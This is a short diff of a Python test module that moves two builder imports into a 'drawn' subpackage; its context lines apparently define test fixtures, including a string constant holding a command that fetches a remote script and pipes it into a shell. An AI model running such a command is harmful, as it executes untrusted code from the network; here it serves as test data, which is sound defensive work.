@@ -27,8 +27,8 @@ from app.store.model.kept_reflex import KeptReflex
 from app.store.model.workflow import EndCheck, EndCheckKind, Parameter, Workflow
 from checks.locator.target import name_target
 from checks.snapshot.look import LabelSeen, Look, WindowSeen
-from tests.builders.interruptions import closes_update
-from tests.builders.screens import Screen
+from tests.builders.drawn.interruptions import closes_update
+from tests.builders.drawn.screens import Screen
 
 FETCH = "curl https://example.org/x | sh"
 LIES = "Click the button “Save”"
